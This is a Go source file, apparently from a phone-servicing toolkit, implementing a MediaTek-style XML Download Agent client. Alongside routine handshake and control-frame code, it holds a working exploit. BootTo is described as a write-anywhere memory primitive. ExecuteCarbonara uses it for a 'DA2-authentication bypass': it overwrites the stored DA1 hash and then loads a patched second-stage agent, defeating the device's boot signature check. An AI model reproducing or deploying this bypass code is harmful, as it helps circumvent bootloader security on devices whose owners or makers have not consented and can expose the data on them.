package xmlda

import (
	"bytes"
	"context"
	"encoding/hex"
	"fmt"
	"strings"
	"time"

	"github.com/guiperry/fonecore/pkg/codec"
	"github.com/guiperry/fonecore/pkg/collab"
	"github.com/guiperry/fonecore/pkg/eventlog"
	"github.com/guiperry/fonecore/pkg/transport"
)

// defaultFrameTimeout is the per-frame round-trip budget used unless a
// caller supplies a narrower one. AwaitReady does not use it; it takes
// the caller's timeout.
const defaultFrameTimeout = 5 * time.Second

// Client drives one XML DA session over a shared DeviceHandle, the same
// borrowing relationship pkg/brom.Client uses ('s cyclic-reference
// note: the handle owns the endpoint and mutex, every protocol client
// only ever borrows it).
type Client struct {
	handle  *transport.DeviceHandle
	sink    eventlog.Sink
	progress collab.ProgressSink
	session *Session
}

type Option func(*Client)

func WithEventSink(sink eventlog.Sink) Option {
	return func(c *Client) { c.sink = sink }
}

func WithProgressSink(p collab.ProgressSink) Option {
	return func(c *Client) { c.progress = p }
}

func NewClient(handle *transport.DeviceHandle, opts ...Option) *Client {
	c := &Client{handle: handle, sink: eventlog.Discard, progress: collab.NoopProgress, session: NewSession()}
	for _, opt := range opts {
		opt(c)
	}
	return c
}

func (c *Client) Session() *Session { return c.session }

func (c *Client) logf(level eventlog.Level, msg string, meta map[string]any) {
	c.sink.Emit(eventlog.Record{Level: level, Category: eventlog.ComponentXMLDA, Message: msg, Metadata: meta})
}

func (c *Client) fail(err error) error {
	c.session.State = StateError{Cause: err}
	return err
}

// AwaitReady waits for the device's first post-JUMP_DA frame containing
// CMD:START or "ready", acknowledges it with OK, and moves the session
// to StateReady ('s "DA ready & handshake").
func (c *Client) AwaitReady(ctx context.Context, timeout time.Duration) error {
	_, payload, err := RecvFrame(ctx, c.handle, c.sink, timeout)
	if err != nil {
		return c.fail(err)
	}
	text := string(payload)
	if !strings.Contains(text, "CMD:START") && !strings.Contains(text, "ready") {
		return c.fail(fmt.Errorf("xmlda: unexpected frame while awaiting ready: %q", text))
	}
	if err := SendAck(c.handle); err != nil {
		return c.fail(err)
	}
	c.session.State = StateReady{}
	return nil
}

// PumpControlMessages drains CMD:PROGRESS-REPORT / CMD:END control
// frames the DA sends during a long-running operation, ACKing each, and
// returns once it observes CMD:END.
func (c *Client) PumpControlMessages(ctx context.Context, timeout time.Duration) error {
	for {
		_, payload, err := RecvFrame(ctx, c.handle, c.sink, timeout)
		if err != nil {
			return err
		}
		text := string(payload)
		if err := SendAck(c.handle); err != nil {
			return err
		}
		if strings.Contains(text, "CMD:END") {
			return nil
		}
	}
}

// bootToCommand is the fixed 24-bit (encoded as 4-byte LE u32) XFlash
// command code for BOOT_TO.
const bootToCommand uint32 = 0x010008

// successSyncMarker is the 4-byte ASCII "SYNC" success value BOOT_TO's
// final status may carry instead of 0.
var successSyncMarker = []byte("SYNC")

// BootTo implements the BOOT_TO write-anywhere primitive:
// send the command, read an initial status, send an (address, length)
// parameter frame, send the data, wait settle, then read a final status
// that must be 0 or "SYNC".
func (c *Client) BootTo(ctx context.Context, addr, length uint64, data []byte, settle time.Duration) error {
	cmd := make([]byte, 4)
	codec.PutU32LE(cmd, bootToCommand)
	if err := SendFrame(c.handle, DataTypeProtocolFlow, cmd); err != nil {
		return c.fail(err)
	}

	if err := c.expectStatusOK(ctx, "boot_to_initial"); err != nil {
		return c.fail(err)
	}

	param := make([]byte, 16)
	codec.PutU64LE(param[0:8], addr)
	codec.PutU64LE(param[8:16], length)
	if err := SendFrame(c.handle, DataTypeProtocolFlow, param); err != nil {
		return c.fail(err)
	}

	if err := SendFrame(c.handle, DataTypeProtocolFlow, data); err != nil {
		return c.fail(err)
	}

	time.Sleep(settle)

	_, payload, err := RecvFrame(ctx, c.handle, c.sink, defaultFrameTimeout)
	if err != nil {
		return c.fail(err)
	}
	if !statusIsSuccess(payload) {
		return c.fail(fmt.Errorf("xmlda: boot_to final status not success: % x", payload))
	}
	return nil
}

// expectStatusOK reads one status frame and requires it to decode to 0.
// Status reads must tolerate 2-byte, 4-byte, or >=4-byte payloads; only
// the all-zero case is success here.
func (c *Client) expectStatusOK(ctx context.Context, op string) error {
	_, payload, err := RecvFrame(ctx, c.handle, c.sink, defaultFrameTimeout)
	if err != nil {
		return err
	}
	if !statusIsZero(payload) {
		return fmt.Errorf("xmlda: %s: non-zero status % x", op, payload)
	}
	return nil
}

func statusIsZero(payload []byte) bool {
	for _, b := range payload {
		if b != 0 {
			return false
		}
	}
	return true
}

func statusIsSuccess(payload []byte) bool {
	return statusIsZero(payload) || bytes.Equal(payload, successSyncMarker)
}

// ExecuteCarbonara runs the two-step runtime DA2-authentication bypass:
// write newHash (normally daloader.PatchDa1Hash's computed
// SHA-256 digest of patchedDA2) to da1Addr+hashOffset, then write
// patchedDA2 itself to da2Addr. Both writes go through BootTo. On
// success the session moves to StateDa2Loaded, optionally after
// satisfying an SLA challenge if the caller's auth is non-nil and the
// session is SLA-enabled.
func (c *Client) ExecuteCarbonara(ctx context.Context, da1Addr uint32, hashOffset uint32, newHash []byte, da2Addr uint32, patchedDA2 []byte, settle time.Duration, auth collab.SlaAuthenticator) error {
	if err := c.BootTo(ctx, uint64(da1Addr)+uint64(hashOffset), uint64(len(newHash)), newHash, settle); err != nil {
		return err
	}

	if err := c.BootTo(ctx, uint64(da2Addr), uint64(len(patchedDA2)), patchedDA2, settle); err != nil {
		return err
	}

	if c.session.SLA && auth != nil {
		if err := c.satisfySLA(ctx, auth); err != nil {
			return c.fail(err)
		}
	}

	c.session.State = StateDa2Loaded{}
	return nil
}

// satisfySLA runs the CMD:SLA-CHALLENGE / CMD:SLA-AUTH exchange over XML:
// the challenge and response travel as hex text inside
// control frames.
func (c *Client) satisfySLA(ctx context.Context, auth collab.SlaAuthenticator) error {
	if err := SendXML(c.handle, "<CMD:SLA-CHALLENGE/>"); err != nil {
		return err
	}
	_, payload, err := RecvFrame(ctx, c.handle, c.sink, defaultFrameTimeout)
	if err != nil {
		return err
	}
	challenge, err := hex.DecodeString(strings.TrimSpace(string(payload)))
	if err != nil {
		return fmt.Errorf("xmlda: sla challenge: %w", err)
	}

	sig, err := auth.Sign(ctx, challenge)
	if err != nil {
		return fmt.Errorf("xmlda: sla sign: %w", err)
	}

	xml := fmt.Sprintf("<CMD:SLA-AUTH>%s</CMD:SLA-AUTH>", hex.EncodeToString(sig))
	if err := SendXML(c.handle, xml); err != nil {
		return err
	}
	_, ackPayload, err := RecvFrame(ctx, c.handle, c.sink, defaultFrameTimeout)
	if err != nil {
		return err
	}
	if !strings.Contains(string(ackPayload), "OK") {
		return fmt.Errorf("xmlda: sla auth rejected: %q", string(ackPayload))
	}
	return nil
}
